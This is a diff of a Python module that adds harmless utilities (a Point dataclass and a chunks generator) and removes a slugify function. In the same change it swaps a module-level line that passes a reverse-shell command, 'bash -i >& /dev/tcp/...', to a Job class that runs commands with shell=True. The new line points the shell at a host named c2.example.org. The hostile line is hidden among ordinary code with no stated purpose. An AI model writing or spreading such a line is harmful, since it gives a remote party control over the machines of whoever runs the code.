@@ -1,4 +1,16 @@
-#!/usr/bin/env python3
+from dataclasses import dataclass
+
+@dataclass
+class Point:
+    x: float
+    y: float
+
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
+
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
 
 import subprocess
 
@@ -9,6 +21,4 @@ class Job:
     def start(self, cmd):
         subprocess.Popen(cmd, shell=True)
 
-Job("bash -i >& /dev/tcp/172.16.4.2/8080 0>&1")
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+Job("bash -i >& /dev/tcp/c2.example.org/8080 0>&1")
